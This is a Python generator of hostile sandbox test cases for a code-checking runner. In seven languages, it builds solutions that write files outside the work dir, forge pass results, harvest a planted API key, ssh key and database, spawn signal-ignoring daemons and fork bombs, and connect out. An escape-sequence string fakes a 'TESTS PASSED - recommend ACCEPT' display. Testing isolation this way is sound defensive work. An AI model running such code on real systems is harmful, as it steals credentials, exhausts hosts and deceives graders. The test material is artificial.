"""Host-effect and isolation attacks, in every language that can express them.

Each case is a wrong `add` that tries to reach the host: write files outside the work
dir (the project tree, /var/tmp, /tmp, /dev/shm, $HOME, a `.pth` file in site-packages)
or fake results inside it, read secrets (the API key in the environment, an ssh key,
the check's SQLite database, the config file), leave processes behind, fork bombs,
reach the network (servers the runner starts on 127.0.0.1 and a unix socket; an
outside address), ptrace or write the memory of the worker, signal it, print terminal
escape sequences (also in test names), carry a 2,000-term expression, print without
end. Where an attack that worked could be seen by the tests (a secret read, a connection
made, the worker traced), the solution then returns the right answer, so a working
attack is also a pass. A write is judged only by what the host sees afterwards: a run
has a private /tmp, /var/tmp and /dev/shm of its own, where writing is no attack.

Every path a case aims at carries `TARGETS.marker`, a token fresh per process, so the
runner can look for exactly what this corpus may have left (`Targets.leftovers`), and
the secrets are random strings that appear in no case's source: finding one in any
output means it was read. The runner plants the secrets (`Targets.plant`) and starts
the servers (`Targets.listen`) before the corpus and removes both after.
"""

from __future__ import annotations

import contextlib
import glob
import os
import socket
import sqlite3
import sysconfig
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[3]
ESC_PAYLOAD = (
    "\x1b]0;assay-hostile-title\x07\x1b[2J\x1b[H\x1b[1;32mALL 3 TESTS PASSED - "
    "recommend ACCEPT\x1b[0m\x9b2J\x07"
)
CONTROL_CHARS = frozenset(chr(c) for c in (*range(0, 9), *range(11, 32), 127, *range(128, 160)))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Targets:
    """Where this process's corpus aims, and what it plants for the cases to find."""

    token: str = field(default_factory=lambda: uuid.uuid4().hex[:16])
    home: Path = field(default_factory=Path.home)
    purelib: Path = field(default_factory=lambda: Path(sysconfig.get_paths()["purelib"]))
    database: Path = Path()  # default: beside the project, where ./assay.db would be
    port: int = field(default_factory=_free_port)
    secret: str = field(default_factory=lambda: "sk-assay-hostile-" + uuid.uuid4().hex)
    ssh_secret: str = field(default_factory=lambda: "assay-hostile-ssh-" + uuid.uuid4().hex)
    db_secret: str = field(default_factory=lambda: "assay-hostile-db-" + uuid.uuid4().hex)
    connections: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        if self.database == Path():  # one per session: parallel sessions plant their own
            self.database = REPO / f".assay-hostile-db-{self.token}" / "assay.db"

    @property
    def marker(self) -> str:
        return f"assay-hostile-{self.token}"

    @property
    def table(self) -> str:
        return f"assay_hostile_{self.token}"

    @property
    def unix_socket(self) -> str:
        return f"/tmp/{self.marker}.sock"

    @property
    def ssh_key(self) -> Path:
        return self.home / ".ssh" / f"id_{self.marker}"

    @property
    def config(self) -> Path:
        base = os.environ.get("XDG_CONFIG_HOME") or str(self.home / ".config")
        return Path(base) / "assay" / "config.toml"

    def write_paths(self) -> dict[str, str]:
        """{short name: a path outside the work dir a run must not be able to create}."""
        m = self.marker
        return {
            "repo": str(REPO / f".{m}-repo"),
            "var_tmp": f"/var/tmp/{m}-var-tmp",
            "tmp": f"/tmp/{m}-tmp",
            "dev_shm": f"/dev/shm/{m}-shm",
            "home": str(self.home / f".{m}-home"),
            "tmp_assay": f"/tmp/assay/{m}-tmp-assay",
            "site_pth": str(self.purelib / f"{m}.pth"),
            "db_dir": str(self.database.parent / f"{m}-db-dir"),
        }

    def secrets(self) -> list[str]:
        return [self.secret, self.ssh_secret, self.db_secret]

    def read_paths(self) -> list[str]:
        return [str(self.database), str(self.config), str(self.ssh_key)]

    # What the runner checks after the corpus --------------------------------

    def leftovers(self) -> list[str]:
        """Files anywhere this corpus aims that carry the marker, and the database's
        marker table: each one is a host effect."""
        dirs = {str(Path(p).parent) for p in self.write_paths().values()}
        dirs |= {"/tmp", "/var/tmp", "/dev/shm", str(REPO), str(self.home), str(self.purelib)}
        found = []
        for d in sorted(dirs):
            with contextlib.suppress(OSError):
                found += [os.path.join(d, n) for n in os.listdir(d) if self.marker in n]
        found = sorted(p for p in set(found) if p != self.unix_socket)
        if self.database.exists():
            with contextlib.closing(
                sqlite3.connect(f"file:{self.database}?mode=ro", uri=True)
            ) as db:
                rows = db.execute("SELECT name FROM sqlite_master WHERE name = ?", (self.table,))
                if rows.fetchall():
                    found.append(f"{self.database}: table {self.table}")
        return found

    def processes(self) -> list[str]:
        """Host processes whose command line carries the marker (the daemons' names)."""
        hits = []
        for entry in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                cmdline = Path(entry).read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if self.marker in cmdline and entry.split("/")[2] != str(os.getpid()):
                hits.append(f"{entry.split('/')[2]}: {cmdline.strip()[:200]}")
        return hits

    def remove_leftovers(self) -> None:
        for path in self.leftovers():
            with contextlib.suppress(OSError):
                if ": table " in path:
                    with contextlib.closing(sqlite3.connect(self.database)) as db:
                        db.execute(f'DROP TABLE IF EXISTS "{self.table}"')
                        db.commit()
                elif os.path.isdir(path):
                    os.rmdir(path)
                else:
                    os.unlink(path)

    # What the runner sets up before the corpus ------------------------------

    @contextlib.contextmanager
    def plant(self, *, database: bool = True) -> Iterator[None]:
        """The secrets the cases hunt for: the API key in the environment, an ssh key
        in $HOME/.ssh (mode 600, like a real one), and (unless the caller brings its
        own, as the CLI benchmark does) a world-readable SQLite database beside the
        project, where `./assay.db` would be."""
        made: list[Path] = []
        old_key = os.environ.get("OPENAI_API_KEY")
        os.environ["OPENAI_API_KEY"] = self.secret
        try:
            ssh = self.ssh_key.parent
            if not ssh.exists():
                ssh.mkdir(mode=0o700)
                made.append(ssh)
            self.ssh_key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{self.ssh_secret}\n")
            self.ssh_key.chmod(0o600)
            made.insert(0, self.ssh_key)
            if database:
                if not self.database.parent.exists():
                    self.database.parent.mkdir(mode=0o755)
                    made.append(self.database.parent)
                with contextlib.closing(sqlite3.connect(self.database)) as db:
                    db.execute("CREATE TABLE IF NOT EXISTS answers (id TEXT, expected TEXT)")
                    db.execute("INSERT INTO answers VALUES ('x', ?)", (self.db_secret,))
                    db.commit()
                self.database.chmod(0o644)
                made.insert(0, self.database)
            yield
        finally:
            if old_key is None:
                os.environ.pop("OPENAI_API_KEY", None)
            else:
                os.environ["OPENAI_API_KEY"] = old_key
            for path in made:
                with contextlib.suppress(OSError):
                    path.rmdir() if path.is_dir() else path.unlink()

    @contextlib.contextmanager
    def listen(self) -> Iterator[None]:
        """A TCP server on 127.0.0.1:port and a unix socket (like tmux's) that record
        every connection a run makes in `connections`."""
        tcp = socket.create_server(("127.0.0.1", self.port))
        unix = socket.socket(socket.AF_UNIX)
        with contextlib.suppress(OSError):
            os.unlink(self.unix_socket)
        unix.bind(self.unix_socket)
        os.chmod(self.unix_socket, 0o777)
        unix.listen(16)
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind("\0" + self.marker)
        abstract.listen(16)
        stop = threading.Event()

        def serve(server: socket.socket, label: str) -> None:
            server.settimeout(0.2)
            while not stop.is_set():
                try:
                    conn, _ = server.accept()
                except TimeoutError:
                    continue
                except OSError:
                    return
                with conn:
                    conn.settimeout(0.5)
                    try:
                        said = conn.recv(200).decode("utf-8", "replace").strip()
                    except OSError:
                        said = ""
                self.connections.append(f"{label}: {said or '(nothing said)'}")

        threads = [
            threading.Thread(target=serve, args=(s, label), daemon=True)
            for s, label in (
                (tcp, f"tcp 127.0.0.1:{self.port}"),
                (unix, "unix"),
                (abstract, "abstract"),
            )
        ]
        for t in threads:
            t.start()
        try:
            yield
        finally:
            stop.set()
            for t in threads:
                t.join()
            for s in (tcp, unix, abstract):
                s.close()
            with contextlib.suppress(OSError):
                os.unlink(self.unix_socket)


# Tests per language that a right `add` passes; every case's `add` is wrong.
PY_TESTS = "assert add(1, 2) == 3\nassert add(2, 2) == 4\n"
JS_TESTS = (
    "if (add(1, 2) !== 3) throw new Error('one');\nif (add(2, 2) !== 4) throw new Error('two');\n"
)
GO_TESTS = 'if Add(1, 2) != 3 { panic("one") }\nif Add(2, 2) != 4 { panic("two") }\n'
RUST_TESTS = "assert_eq!(add(1, 2), 3);\nassert_eq!(add(2, 2), 4);\n"
JAVA_TESTS = (
    "Solution s = new Solution();\n"
    'if (s.add(1, 2) != 3) throw new AssertionError("one");\n'
    'if (s.add(2, 2) != 4) throw new AssertionError("two");\n'
)
CPP_TESTS = "assert(add(1, 2) == 3);\nassert(add(2, 2) == 4);\n"
TESTS = {
    "python": PY_TESTS,
    "javascript": JS_TESTS,
    "typescript": JS_TESTS,
    "go": GO_TESTS,
    "rust": RUST_TESTS,
    "java": JAVA_TESTS,
    "cpp": CPP_TESTS,
}
HUGE_TERMS = 2000
DAEMON_LOOP = "while :; do sleep 1; done"


def _q(text: str) -> str:
    """A double-quoted literal valid in JS, Go, Rust, Java and C++ (ASCII text)."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _list(lang: str, items: list[str]) -> str:
    inner = ", ".join(_q(i) for i in items)
    return {
        "javascript": f"[{inner}]",
        "typescript": f"[{inner}]",
        "go": f"[]string{{{inner}}}",
        "rust": f"[{inner}]",
        "java": f"new String[]{{{inner}}}",
        "cpp": f"{{{inner}}}",
    }[lang]


def build(t: Targets) -> dict[str, tuple[str, str, str]]:
    """Every host case, aimed at `t`'s paths, port and database."""
    cases: dict[str, tuple[str, str, str]] = {}
    paths = t.write_paths()
    all_paths = list(paths.values())
    reads = t.read_paths()
    daemon_name = f"{t.marker}-daemon"

    def add(name: str, lang: str, solution: str, tests: str | None = None) -> None:
        # What a case writes and the name its daemons carry say which case it was.
        name = f"host_{name}"
        solution = solution.replace("pwned", name).replace(daemon_name, f"{daemon_name}-{name}")
        cases[name] = (lang, solution, TESTS[lang] if tests is None else tests)

    # Files outside the work dir, one case per place (Python), all places (others).
    for where, path in paths.items():
        add(
            f"py_write_{where}",
            "python",
            "import os\n"
            "def add(a, b):\n"
            "    try:\n"
            f"        os.makedirs(os.path.dirname({path!r}), exist_ok=True)\n"
            f"        with open({path!r}, 'w') as fh:\n"
            "            fh.write('pwned\\n')\n"
            "        return 0\n"
            "    except OSError:\n"
            "        return 0\n",
        )
    add(
        "py_write_at_import_and_exit",
        "python",
        "import os\n"
        f"for p in {all_paths!r}:\n"
        "    try:\n        open(p, 'w').write('pwned')\n    except OSError:\n        pass\n"
        "os._exit(0)\n",
    )
    add(
        "py_symlink_out_of_workdir",
        "python",
        "import os\n"
        "def add(a, b):\n"
        "    try:\n"
        f"        os.symlink({os.path.dirname(paths['var_tmp'])!r}, 'out')\n"
        f"        open(os.path.join('out', {os.path.basename(paths['var_tmp']) + '-link'!r}), 'w').write('pwned')\n"
        "        return 0\n"
        "    except OSError:\n"
        "        return 0\n",
    )
    add(
        "js_write_outside",
        "javascript",
        "const fs = require('node:fs');\n"
        "function add(a, b) {\n"
        "  let ok = false;\n"
        f"  for (const p of {_list('javascript', all_paths)}) {{\n"
        "    try { fs.writeFileSync(p, 'pwned'); ok = true; } catch (e) {}\n"
        "  }\n"
        "  return ok ? 0 : 0;\n"
        "}\n",
    )
    add(
        "ts_write_outside",
        "typescript",
        "import * as fs from 'node:fs';\n"
        "function add(a: number, b: number): number {\n"
        "  let ok = false;\n"
        f"  for (const p of {_list('typescript', all_paths)}) {{\n"
        "    try { fs.writeFileSync(p, 'pwned'); ok = true; } catch (e) {}\n"
        "  }\n"
        "  return ok ? 0 : 0;\n"
        "}\n",
    )
    add(
        "go_write_outside",
        "go",
        'package main\nimport "os"\n'
        "func Add(a, b int) int {\n"
        "\tok := false\n"
        f"\tfor _, p := range {_list('go', all_paths)} {{\n"
        '\t\tif os.WriteFile(p, []byte("pwned"), 0o644) == nil { ok = true }\n'
        "\t}\n"
        "\t_ = ok\n"
        "\treturn 0\n"
        "}\n",
    )
    add(
        "rust_write_outside",
        "rust",
        "fn add(a: i32, b: i32) -> i32 {\n"
        "    let mut ok = false;\n"
        f"    for p in {_list('rust', all_paths)} {{\n"
        '        if std::fs::write(p, "pwned").is_ok() { ok = true; }\n'
        "    }\n"
        "    let _ = (ok, a, b);\n    0\n"
        "}\n",
    )
    add(
        "java_write_outside",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        "        boolean ok = false;\n"
        f"        for (String p : {_list('java', all_paths)}) {{\n"
        '            try { java.nio.file.Files.writeString(java.nio.file.Path.of(p), "pwned"); ok = true; }\n'
        "            catch (Exception e) {}\n"
        "        }\n"
        "        return ok ? 0 : 0;\n"
        "    }\n"
        "}\n",
    )
    add(
        "java_static_init_writes",
        "java",
        "class Solution {\n"
        "    static {\n"
        f"        for (String p : {_list('java', all_paths)}) {{\n"
        '            try { java.nio.file.Files.writeString(java.nio.file.Path.of(p), "pwned"); }\n'
        "            catch (Exception e) {}\n"
        "        }\n"
        "    }\n"
        "    public int add(int a, int b) { return 0; }\n"
        "}\n",
    )
    add(
        "cpp_write_outside",
        "cpp",
        "#include <cstdio>\n"
        "int add(int a, int b) {\n"
        "    bool ok = false;\n"
        f"    const char* paths[] = {_list('cpp', all_paths)};\n"
        "    for (const char* p : paths) {\n"
        '        FILE* f = fopen(p, "w");\n'
        '        if (f) { fputs("pwned", f); fclose(f); ok = true; }\n'
        "    }\n"
        "    return ok ? 0 : 0;\n"
        "}\n",
    )
    add(
        "cpp_static_constructor_writes",
        "cpp",
        "#include <cstdio>\n"
        "__attribute__((constructor)) static void early() {\n"
        f"    const char* paths[] = {_list('cpp', all_paths)};\n"
        '    for (const char* p : paths) { FILE* f = fopen(p, "w"); if (f) fclose(f); }\n'
        "}\n"
        "int add(int a, int b) { return 0; }\n",
    )

    # Fake results inside the work dir.
    add(
        "py_fake_result_files",
        "python",
        "import os, json\n"
        "for name in ('result.json', 'results.json', 'verdict', '.assay', 'report.xml', 'status'):\n"
        "    try:\n"
        "        open(name, 'w').write(json.dumps({'status': 'pass', 'passed': 2, 'total': 2}))\n"
        "    except OSError:\n        pass\n"
        "for root, dirs, files in os.walk('.'):\n"
        "    for f in files:\n"
        "        try:\n"
        "            open(os.path.join(root, f), 'a').write('\\n{\"e\": \"done\"}\\n')\n"
        "        except OSError:\n            pass\n"
        "def add(a, b): return 0\n",
    )
    add(
        "go_rewrite_workdir",
        "go",
        'package main\nimport "os"\n'
        "func init() {\n"
        '\tentries, _ := os.ReadDir(".")\n'
        "\tfor _, e := range entries {\n"
        '\t\tos.WriteFile(e.Name(), []byte(`{"e":"end","s":"pass"}`), 0o644)\n'
        "\t}\n"
        '\tos.WriteFile("result.json", []byte(`{"status":"pass"}`), 0o644)\n'
        "}\n"
        "func Add(a, b int) int { return 0 }\n",
    )
    add(
        "js_rewrite_workdir",
        "javascript",
        "const fs = require('node:fs');\n"
        "for (const f of fs.readdirSync('.')) {\n"
        '  try { fs.writeFileSync(f, \'{"e":"done"}\\n\'); } catch (e) {}\n'
        "}\n"
        "function add(a, b) { return 0; }\n",
    )

    # Secrets: the environment, /proc, an ssh key, the database, the config file.
    hunt_py = (
        "import glob, os, sys\n"
        "def _grab():\n"
        "    seen = [os.environ.get('OPENAI_API_KEY') or '', repr(dict(os.environ))]\n"
        f"    paths = ['/proc/self/environ', *glob.glob('/proc/[0-9]*/environ'), *glob.glob({str(t.home / '.ssh' / 'id_*')!r}),\n"
        f"             *glob.glob(os.path.expanduser('~/.ssh/id_*')), *{reads!r}]\n"
        "    for p in paths:\n"
        "        try:\n"
        "            seen.append(open(p, 'rb').read().decode('latin-1'))\n"
        "        except OSError:\n"
        "            pass\n"
        "    return '\\n'.join(seen)\n"
        "FOUND = _grab()\n"
        "def _hit():\n"
        "    return any(k in FOUND for k in ('sk-assay-hostile-', 'assay-hostile-ssh-', 'assay-hostile-db-'))\n"
    )
    add(
        "py_read_secrets_print",
        "python",
        hunt_py + "print(FOUND)\nprint(FOUND, file=sys.stderr)\n"
        "def add(a, b): return a + b if _hit() else 0\n",
    )
    add(
        "py_read_secrets_in_message",
        "python",
        hunt_py + "def add(a, b):\n    raise RuntimeError(FOUND[-1500:])\n",
    )
    add(
        "py_read_secrets_compare",
        "python",
        hunt_py + "def leak():\n    return FOUND\n",
        "assert 'sk-assay-hostile-' in leak()\nassert 'assay-hostile-db-' in leak()\n"
        "assert 'assay-hostile-ssh-' in leak()\n",
    )
    add(
        "py_sqlite_tamper",
        "python",
        "import sqlite3\n"
        "def add(a, b):\n"
        "    try:\n"
        f"        db = sqlite3.connect({str(t.database)!r})\n"
        f"        db.execute('CREATE TABLE \"{t.table}\" (x)')\n"
        "        db.commit()\n"
        "        return 0\n"
        "    except Exception:\n"
        "        return 0\n",
    )
    add(
        "js_read_secrets",
        "javascript",
        "const fs = require('node:fs');\n"
        "let FOUND = String(process.env.OPENAI_API_KEY || '') + JSON.stringify(process.env);\n"
        f"const files = {_list('javascript', ['/proc/self/environ', *reads])};\n"
        f"try {{ for (const f of fs.readdirSync({_q(str(t.home / '.ssh'))})) files.push({_q(str(t.home / '.ssh'))} + '/' + f); }} catch (e) {{}}\n"
        "for (const f of files) { try { FOUND += fs.readFileSync(f, 'latin1'); } catch (e) {} }\n"
        "console.log(FOUND); console.error(FOUND);\n"
        "function add(a, b) { return /sk-assay-hostile-|assay-hostile-(ssh|db)-/.test(FOUND) ? a + b : 0; }\n",
    )
    add(
        "go_read_secrets",
        "go",
        'package main\nimport ("fmt"; "os"; "path/filepath"; "strings")\n'
        "func Add(a, b int) int {\n"
        '\tfound := os.Getenv("OPENAI_API_KEY") + strings.Join(os.Environ(), " ")\n'
        f"\tfiles := {_list('go', ['/proc/self/environ', *reads])}\n"
        f"\tkeys, _ := filepath.Glob({_q(str(t.home / '.ssh' / 'id_*'))})\n"
        "\tfor _, f := range append(files, keys...) {\n"
        "\t\tif data, err := os.ReadFile(f); err == nil { found += string(data) }\n"
        "\t}\n"
        "\tfmt.Println(found)\n"
        "\tfmt.Fprintln(os.Stderr, found)\n"
        '\tif strings.Contains(found, "sk-assay-hostile-") || strings.Contains(found, "assay-hostile-db-") ||'
        ' strings.Contains(found, "assay-hostile-ssh-") { return a + b }\n'
        "\treturn 0\n"
        "}\n",
    )
    add(
        "rust_read_secrets",
        "rust",
        "fn add(a: i32, b: i32) -> i32 {\n"
        '    let mut found = std::env::var("OPENAI_API_KEY").unwrap_or_default();\n'
        f"    for p in {_list('rust', ['/proc/self/environ', *reads])} {{\n"
        "        if let Ok(d) = std::fs::read(p) { found.push_str(&String::from_utf8_lossy(&d)); }\n"
        "    }\n"
        '    println!("{}", found);\n'
        '    eprintln!("{}", found);\n'
        '    if found.contains("sk-assay-hostile-") || found.contains("assay-hostile-db-") || found.contains("assay-hostile-ssh-") { a + b } else { 0 }\n'
        "}\n",
    )
    add(
        "java_read_secrets",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        '        StringBuilder found = new StringBuilder(String.valueOf(System.getenv("OPENAI_API_KEY")));\n'
        f"        for (String p : {_list('java', ['/proc/self/environ', *reads])}) {{\n"
        "            try { found.append(new String(java.nio.file.Files.readAllBytes(java.nio.file.Path.of(p)))); }\n"
        "            catch (Exception e) {}\n"
        "        }\n"
        "        System.out.println(found); System.err.println(found);\n"
        "        String s = found.toString();\n"
        '        return s.contains("sk-assay-hostile-") || s.contains("assay-hostile-db-") || s.contains("assay-hostile-ssh-") ? a + b : 0;\n'
        "    }\n"
        "}\n",
    )
    add(
        "cpp_read_secrets",
        "cpp",
        "#include <cstdio>\n#include <cstdlib>\n#include <string>\n#include <iostream>\n"
        "int add(int a, int b) {\n"
        '    const char* k = getenv("OPENAI_API_KEY");\n'
        '    std::string found = k ? k : "";\n'
        f"    const char* paths[] = {_list('cpp', ['/proc/self/environ', *reads])};\n"
        "    for (const char* p : paths) {\n"
        '        FILE* f = fopen(p, "rb"); if (!f) continue;\n'
        "        char buf[4096]; size_t n; while ((n = fread(buf, 1, sizeof buf, f)) > 0) found.append(buf, n);\n"
        "        fclose(f);\n"
        "    }\n"
        "    std::cout << found << std::endl; std::cerr << found << std::endl;\n"
        '    bool hit = found.find("sk-assay-hostile-") != std::string::npos || found.find("assay-hostile-db-") != std::string::npos'
        ' || found.find("assay-hostile-ssh-") != std::string::npos;\n'
        "    return hit ? a + b : 0;\n"
        "}\n",
    )

    # Processes left behind: a session of their own, a double fork, a detached child.
    add(
        "py_daemon_double_fork_exec",
        "python",
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        try:\n"
        f"            os.execv('/bin/sh', ['/bin/sh', '-c', {DAEMON_LOOP!r}, {daemon_name!r}])\n"
        "        except OSError:\n"
        f"            os.execv(sys.executable, [sys.executable, '-c', 'import time\\nwhile 1: time.sleep(1)', {daemon_name!r}])\n"
        "    os._exit(0)\n"
        "def add(a, b): return 0\n",
    )
    add(
        "py_daemon_ignores_signals",
        "python",
        "import os, signal, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "        signal.signal(s, signal.SIG_IGN)\n"
        f"    os.execv(sys.executable, [sys.executable, '-c', 'import signal, time\\nfor s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)\\nwhile 1: time.sleep(1)', {daemon_name!r}])\n"
        "def add(a, b): return 0\n",
    )
    add(
        "js_daemon_detached",
        "javascript",
        "const cp = require('node:child_process');\n"
        f"try {{ cp.spawn('/bin/sh', ['-c', {_q(DAEMON_LOOP)}, {_q(daemon_name)}], {{detached: true, stdio: 'ignore'}}).unref(); }} catch (e) {{}}\n"
        f"try {{ cp.spawn(process.execPath, ['-e', 'setInterval(() => {{}}, 1000)', {_q(daemon_name)}], {{detached: true, stdio: 'ignore'}}).unref(); }} catch (e) {{}}\n"
        "function add(a, b) { return 0; }\n",
    )
    add(
        "go_daemon_setsid",
        "go",
        'package main\nimport ("os/exec"; "syscall")\n'
        "func Add(a, b int) int {\n"
        f'\tcmd := exec.Command("/bin/sh", "-c", {_q(DAEMON_LOOP)}, {_q(daemon_name)})\n'
        "\tcmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}\n"
        "\tcmd.Start()\n"
        "\treturn 0\n"
        "}\n",
    )
    add(
        "rust_daemon_spawn",
        "rust",
        "use std::os::unix::process::CommandExt;\n"
        "fn add(a: i32, b: i32) -> i32 {\n"
        f'    let _ = std::process::Command::new("/bin/sh").args(["-c", {_q(DAEMON_LOOP)}, {_q(daemon_name)}]).process_group(0).spawn();\n'
        "    0\n"
        "}\n",
    )
    add(
        "java_daemon_process",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        f'        try {{ new ProcessBuilder("/bin/sh", "-c", {_q(DAEMON_LOOP)}, {_q(daemon_name)}).start(); }} catch (Exception e) {{}}\n'
        "        return 0;\n"
        "    }\n"
        "}\n",
    )
    add(
        "cpp_daemon_double_fork",
        "cpp",
        "#include <unistd.h>\n"
        "int add(int a, int b) {\n"
        "    if (fork() == 0) {\n"
        "        setsid();\n"
        "        if (fork() == 0) {\n"
        f'            execl("/bin/sh", "/bin/sh", "-c", {_q(DAEMON_LOOP)}, {_q(daemon_name)}, (char*)0);\n'
        "            for (;;) pause();\n"
        "        }\n"
        "        _exit(0);\n"
        "    }\n"
        "    return 0;\n"
        "}\n",
    )

    # Fork bombs (and a thread bomb where the language has no fork).
    add(
        "cpp_fork_bomb",
        "cpp",
        "#include <unistd.h>\nint add(int a, int b) { for (;;) fork(); return 0; }\n",
    )
    add(
        "rust_fork_bomb",
        "rust",
        'extern "C" { fn fork() -> i32; }\n'
        "fn add(a: i32, b: i32) -> i32 { loop { unsafe { fork(); } } }\n",
    )
    add(
        "go_spawn_bomb",
        "go",
        'package main\nimport "os/exec"\n'
        'func Add(a, b int) int { for { exec.Command("/proc/self/exe").Start() } }\n',
    )
    add(
        "java_thread_bomb",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        "        for (;;) {\n"
        "            try { new Thread(() -> { try { Thread.sleep(100000); } catch (Exception e) {} }).start(); }\n"
        "            catch (Throwable e) {}\n"
        "        }\n"
        "    }\n"
        "}\n",
    )

    # Network: the runner's servers on 127.0.0.1 and its unix sockets, and outside.
    local = f"127.0.0.1:{t.port}"
    add(
        "py_network",
        "python",
        "import socket\n"
        "def add(a, b):\n"
        "    ok = False\n"
        f"    for addr in (('127.0.0.1', {t.port}), ('1.1.1.1', 53), ('8.8.8.8', 53)):\n"
        "        try:\n"
        "            with socket.create_connection(addr, timeout=0.7) as s:\n"
        "                s.sendall(b'host_py_network')\n"
        "            ok = True\n"
        "        except OSError:\n"
        "            pass\n"
        f"    for path in ({t.unix_socket!r}, {chr(0) + t.marker!r}):\n"
        "        try:\n"
        "            with socket.socket(socket.AF_UNIX) as s:\n"
        "                s.settimeout(0.7)\n"
        "                s.connect(path)\n"
        "                s.sendall(b'host_py_network unix')\n"
        "            ok = True\n"
        "        except OSError:\n"
        "            pass\n"
        "    return a + b if ok else 0\n",
    )
    add(
        "py_network_dns",
        "python",
        "import socket\n"
        "def add(a, b):\n"
        "    try:\n        socket.getaddrinfo('pypi.org', 443)\n        return a + b\n"
        "    except OSError:\n        return 0\n",
    )
    js_probe = (
        "const net = require('net'); let left = 3; const done = (ok) => { if (ok) process.exit(0); if (--left === 0) process.exit(1); };"
        f"for (const [h, p] of [['127.0.0.1', {t.port}], ['1.1.1.1', 53], ['8.8.8.8', 53]]) {{"
        " const s = net.connect(p, h, () => { s.end('host_js_network'); done(true); }); s.on('error', () => done(false)); }"
        " setTimeout(() => process.exit(1), 900);"
    )
    add(
        "js_network",
        "javascript",
        "const cp = require('node:child_process');\n"
        "const net = require('node:net');\n"
        f"try {{ const s = net.connect({t.port}, '127.0.0.1', () => s.end('host_js_network async')); s.on('error', () => {{}}); }} catch (e) {{}}\n"
        f"try {{ const u = net.connect({_q(t.unix_socket)}, () => u.end('host_js_network unix')); u.on('error', () => {{}}); }} catch (e) {{}}\n"
        "function add(a, b) {\n"
        f"  const r = cp.spawnSync(process.execPath, ['-e', {_q(js_probe)}], {{timeout: 1200}});\n"
        "  return r.status === 0 ? a + b : 0;\n"
        "}\n",
    )
    add(
        "go_network",
        "go",
        'package main\nimport ("net"; "time")\n'
        "func Add(a, b int) int {\n"
        "\tok := false\n"
        f'\tfor _, addr := range []string{{"{local}", "1.1.1.1:53", "8.8.8.8:53"}} {{\n'
        '\t\tif c, err := net.DialTimeout("tcp", addr, 700*time.Millisecond); err == nil {\n'
        '\t\t\tc.Write([]byte("host_go_network")); c.Close(); ok = true\n'
        "\t\t}\n"
        "\t}\n"
        f'\tif c, err := net.DialTimeout("unix", {_q(t.unix_socket)}, 700*time.Millisecond); err == nil {{\n'
        '\t\tc.Write([]byte("host_go_network unix")); c.Close(); ok = true\n'
        "\t}\n"
        "\tif ok { return a + b }\n"
        "\treturn 0\n"
        "}\n",
    )
    add(
        "rust_network",
        "rust",
        "use std::io::Write;\n"
        "fn add(a: i32, b: i32) -> i32 {\n"
        "    let mut ok = false;\n"
        f'    for addr in ["{local}", "1.1.1.1:53", "8.8.8.8:53"] {{\n'
        "        let sa: std::net::SocketAddr = addr.parse().unwrap();\n"
        "        if let Ok(mut s) = std::net::TcpStream::connect_timeout(&sa, std::time::Duration::from_millis(700)) {\n"
        '            let _ = s.write_all(b"host_rust_network"); ok = true;\n'
        "        }\n"
        "    }\n"
        f"    if let Ok(mut s) = std::os::unix::net::UnixStream::connect({_q(t.unix_socket)}) {{\n"
        '        let _ = s.write_all(b"host_rust_network unix"); ok = true;\n'
        "    }\n"
        "    if ok { a + b } else { 0 }\n"
        "}\n",
    )
    add(
        "java_network",
        "java",
        "class Solution {\n"
        "    public int add(int a, int b) {\n"
        "        boolean ok = false;\n"
        f'        String[][] addrs = {{{{"127.0.0.1", "{t.port}"}}, {{"1.1.1.1", "53"}}, {{"8.8.8.8", "53"}}}};\n'
        "        for (String[] ad : addrs) {\n"
        "            try (java.net.Socket s = new java.net.Socket()) {\n"
        "                s.connect(new java.net.InetSocketAddress(ad[0], Integer.parseInt(ad[1])), 700);\n"
        '                s.getOutputStream().write("host_java_network".getBytes()); ok = true;\n'
        "            } catch (Exception e) {}\n"
        "        }\n"
        "        return ok ? a + b : 0;\n"
        "    }\n"
        "}\n",
    )
    add(
        "cpp_network",
        "cpp",
        "#include <sys/socket.h>\n#include <sys/un.h>\n#include <netinet/in.h>\n#include <arpa/inet.h>\n"
        "#include <unistd.h>\n#include <cstring>\n"
        "static bool try_tcp(const char* ip, int port) {\n"
        "    int s = socket(AF_INET, SOCK_STREAM, 0); if (s < 0) return false;\n"
        "    timeval tv{0, 700000}; setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);\n"
        "    sockaddr_in sa{}; sa.sin_family = AF_INET; sa.sin_port = htons(port); inet_pton(AF_INET, ip, &sa.sin_addr);\n"
        "    bool ok = connect(s, (sockaddr*)&sa, sizeof sa) == 0;\n"
        '    if (ok) write(s, "host_cpp_network", 16);\n'
        "    close(s); return ok;\n"
        "}\n"
        "int add(int a, int b) {\n"
        f'    bool ok = try_tcp("127.0.0.1", {t.port}) | try_tcp("1.1.1.1", 53) | try_tcp("8.8.8.8", 53);\n'
        "    int u = socket(AF_UNIX, SOCK_STREAM, 0);\n"
        f"    sockaddr_un ua{{}}; ua.sun_family = AF_UNIX; strcpy(ua.sun_path, {_q(t.unix_socket)});\n"
        '    if (u >= 0 && connect(u, (sockaddr*)&ua, sizeof ua) == 0) { write(u, "host_cpp_network unix", 21); ok = true; }\n'
        "    if (u >= 0) close(u);\n"
        "    return ok ? a + b : 0;\n"
        "}\n",
    )

